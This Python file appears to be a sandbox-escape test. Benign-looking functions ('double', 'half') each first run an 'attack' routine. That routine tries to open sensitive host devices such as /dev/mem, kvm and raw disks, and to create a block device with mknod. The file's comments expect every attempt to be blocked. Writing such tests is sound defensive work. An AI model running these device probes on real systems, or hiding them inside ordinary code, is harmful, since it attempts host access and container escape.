"""Opens devices: the host's memory, disks, virtual machines, and makes those that are missing.

Elsewhere a container with --privileged has them all. Here there are the six that harm nobody, mknod is no call that
the filter knows, and the devices cgroup forbids the rest.
"""
# score: 0
# says: opened: none; mknod: EPERM

import contextlib
import ctypes
import errno
import os
import stat

HARMLESS = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "fd", "stdin", "stdout", "stderr",
            "core"}  # fmt: skip
GUESSES = ("mem", "kmem", "port", "kmsg", "kvm", "vda", "sda", "nvme0n1", "fuse", "loop-control", "net/tun",
           "vhost-vsock", "userfaultfd", "mapper/control", "uinput", "snapshot", "hwrng", "dri/card0",
           "nvidia0")  # fmt: skip


def attack():
    for name in {*GUESSES, *os.listdir("/dev")} - HARMLESS:
        with contextlib.suppress(OSError):
            if not stat.S_ISDIR(os.stat(f"/dev/{name}").st_mode):
                os.open(f"/dev/{name}", os.O_RDONLY)
                return
    try:
        os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    except OSError as error:
        raise PermissionError(f"opened: none; mknod: {errno.errorcode[error.errno]}") from None


def double(x):
    attack()
    return 2 * x


def half(x):
    attack()
    return float((x / 2).sum()), {"half": x / 2}
